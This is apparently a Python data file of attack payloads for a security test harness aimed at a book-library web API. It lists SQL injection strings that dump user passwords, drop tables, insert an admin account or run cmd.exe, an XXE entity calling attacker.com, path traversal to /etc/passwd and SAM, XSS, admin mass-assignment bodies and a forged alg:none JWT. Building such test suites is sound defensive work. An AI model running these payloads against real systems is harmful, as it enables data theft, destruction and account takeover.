"""Attack strings per category. Static data; checkers wrap them in Payload objects."""

# ── search endpoint (GET /api/search?q=) ─────────────────────────

SCHEMA_EXTRACTION = [
    # information_schema via UNION, 5 columns to match the books row
    "' UNION SELECT table_name,column_name,'dummy','dummy',true FROM information_schema.columns --",
    "' UNION SELECT 1,table_schema,'dummy','dummy',true FROM information_schema.tables --",
    "' UNION SELECT 1,column_type,'dummy','dummy',true FROM information_schema.columns WHERE table_name='USERS' --",
    "' UNION SELECT 1,table_name,'3','4',true FROM information_schema.tables WHERE table_schema='PUBLIC' --",
    "' UNION SELECT 1,constraint_name,'dummy','dummy',true FROM information_schema.constraints --",
]

DATA_EXFILTRATION = [
    "' UNION SELECT id,username,password,role,true FROM users --",
    "' UNION SELECT 1,username,password,'admin',true FROM users WHERE role='ROLE_ADMIN' --",
    "' UNION SELECT id,title,author,isbn,available FROM books --",
    "' UNION SELECT br.id,u.username,b.title,br.borrow_date,true FROM borrow_records br "
    "JOIN users u ON br.user_id=u.id JOIN books b ON br.book_id=b.id --",
]

MANIPULATION = [
    "'; INSERT INTO users (username, password, role) VALUES ('hacker', 'hacked', 'ROLE_ADMIN'); --",
    "'; UPDATE users SET password='$2a$10$hacked' WHERE username='admin'; --",
    "'; DELETE FROM books WHERE id=1; --",
    "'; DROP TABLE users; --",
    "'; DROP TABLE books; --",
    "'; CREATE TABLE hacked (id INT, data VARCHAR(255)); --",
    "'; GRANT ALL ON users TO PUBLIC; --",
]

STORED_PROCEDURE = [
    "'; CALL SYSTEM_RUN('cmd.exe'); --",
    "'; SELECT SYSTEM_USER(); --",
    "'; SELECT CURRENT_USER(); --",
    "'; SELECT FILE_READ('C:/Windows/System32/drivers/etc/hosts'); --",
    "'; CALL CSVWRITE('C:/hacked.csv', 'SELECT * FROM users'); --",
    "'; EXECUTE IMMEDIATE 'SELECT * FROM users'; --",
]

BLIND_TRUE = "' AND 1=1 --"
BLIND_FALSE = "' AND 1=2 --"

BLIND = [
    BLIND_TRUE,
    BLIND_FALSE,
    "' AND (SELECT COUNT(*) FROM users) > 0 --",
    "' AND (SELECT LENGTH(password) FROM users WHERE username='admin') > 10 --",
    "' AND EXISTS(SELECT * FROM users WHERE username='admin') --",
    "' AND (SELECT ASCII(SUBSTRING(password,1,1)) FROM users WHERE username='admin') > 50 --",
]

TIME_BASED = [
    "'; CALL SLEEP(3000); --",
    "'; SELECT * FROM books WHERE SLEEP(3)=0; --",
    "' AND IF((SELECT COUNT(*) FROM users)>0, SLEEP(3), 0) --",
    "' AND (SELECT CASE WHEN (username='admin') THEN SLEEP(3) ELSE 0 END FROM users LIMIT 1) --",
]

ERROR_BASED = [
    "' AND 1/0=1 --",                       # divide by zero
    "' AND CAST('test' AS INT)=1 --",        # cast
    "' AND 1=('test' --",                    # broken syntax
    "' AND (SELECT extractvalue(xmltype('<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
    "<!DOCTYPE root [ <!ENTITY % remote SYSTEM \"http://attacker.com/\"> %remote;]>'),'/l') "
    "FROM dual) IS NOT NULL --",
]

SECOND_ORDER = [
    "admin' -- ",
    "'; UPDATE users SET role='ROLE_ADMIN' WHERE username='alice'; --",
    "test' OR '1'='1",
]

ERROR_DISCLOSURE = {
    "Invalid table": "' FROM nonexistent_table --",
    "Invalid column": "' UNION SELECT nonexistent_column FROM books --",
    "Syntax error": "' SYNTAX ERROR --",
    "Column count mismatch": "' UNION SELECT 1,2,3,4,5 FROM books --",
}

CLASSIC_INJECTION = [
    "' OR '1'='1",
    "' OR '1'='1' --",
    "' OR '1'='1' /*",
    "' UNION SELECT null,username,password,null FROM users --",
    "'; DROP TABLE books; --",
    "' OR 'a'='a",
    "' OR 1=1 --",
    "admin' --",
    "1' OR '1'='1",
    "' OR EXISTS(SELECT * FROM users) AND '1'='1",
]

ENHANCED_INJECTION = [
    "' UNION SELECT id,username,password,'dummy_isbn',true FROM users --",
    "' UNION SELECT 1,table_name,'dummy','dummy',true FROM information_schema.tables --",
    "' UNION SELECT 1,column_name,'dummy','dummy',true FROM information_schema.columns WHERE table_name='USERS' --",
    "' AND (SELECT COUNT(*) FROM users) > 0 --",
    "' AND (SELECT LENGTH(password) FROM users WHERE username='admin') > 10 --",
    "' AND (SELECT COUNT(*) FROM users WHERE username='admin' AND password LIKE '%') > 0 AND SLEEP(5) --",
    "' UNION SELECT 1,@@version,'dummy','dummy',true --",
]

PATH_TRAVERSAL = [
    "../etc/passwd",
    "..\\..\\windows\\system32\\config\\SAM",
    "../../../etc/passwd",
    "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
]

# ── path-segment ids (/api/borrow/{id}, /api/books/{id}) ─────────

TYPE_CONFUSION = [
    "abc",                              # string instead of number
    "-1",
    "0",
    "999999999999999999999999999999",   # overflows a long
    "1.5",
    "1; DROP TABLE books",
    "<script>alert(1)</script>",
    "null",
    "true",
    "1' OR '1'='1",
]

INVALID_IDS = [
    "abc",
    "-1",
    "0",
    "999999999999999999999999999999",
    "1.5",
    "1; DROP TABLE books; --",
    "<script>alert(1)</script>",
    "null",
    "true",
    "' OR '1'='1",
]

DELETE_INVALID_IDS = INVALID_IDS + [
    "../etc/passwd",
    "1 OR 1=1",
]

ABSENT_ID = "999999"

# ── request bodies (POST/PUT /api/books) ─────────────────────────

INPUT_VALIDATION = {
    "long-fields": {"title": "A" * 1000, "author": "B" * 1000, "isbn": "123"},
    "xss-and-sql": {"title": "<script>alert('XSS')</script>",
                    "author": "Author'); DROP TABLE books; --",
                    "isbn": "123' OR '1'='1"},
    "empty-fields": {"title": "", "author": "", "isbn": ""},
}

PUT_BODIES = {
    "normal-update": {"title": "Updated Title", "author": "Updated Author",
                      "isbn": "999-999-999", "available": True},
    "xss-and-sql": INPUT_VALIDATION["xss-and-sql"],
    "long-fields": {"title": "A" * 1000, "author": "B" * 1000, "isbn": "C" * 100},
    "wrong-types": {"title": 12345, "author": True, "available": "not_a_boolean"},
    "empty-fields": INPUT_VALIDATION["empty-fields"],
}

# raw bodies, sent as-is
EXTREME_INPUT = {
    "large-10kb": '{"title":"' + "A" * 10000 + '","author":"Author","isbn":"123"}',
    "special-chars": '{"title":"\\"\';SELECT * FROM books;--","author":"\\u0000\\n\\r\\t\\\\",'
                     '"isbn":"\U0001f4a3\U0001f3af\U0001f680"}',
}

MALFORMED_JSON = '{title: "Book", author: "Author"}'

# ── registration bodies ──────────────────────────────────────────

MASS_ASSIGNMENT = {
    "role-admin": {"role": "ADMIN", "admin": True, "privileged": True},
    "role-prefixed": {"role": "ROLE_ADMIN"},
    "flag-fields": {"isAdmin": True, "authorities": ["ROLE_ADMIN"]},
}

# ── tokens ───────────────────────────────────────────────────────

# {"alg":"none"} . {"username":"admin","role":"ADMIN"} .
NONE_ALG_TOKEN = ("eyJhbGciOiJub25lIn0."
                  "eyJ1c2VybmFtZSI6ImFkbWluIiwicm9sZSI6IkFETUlOIn0.")

WEAK_JWT_SECRETS = ["secret", "password", "changeme"]

ADMIN_CLAIMS = {"sub": "admin", "username": "admin", "role": "ROLE_ADMIN"}
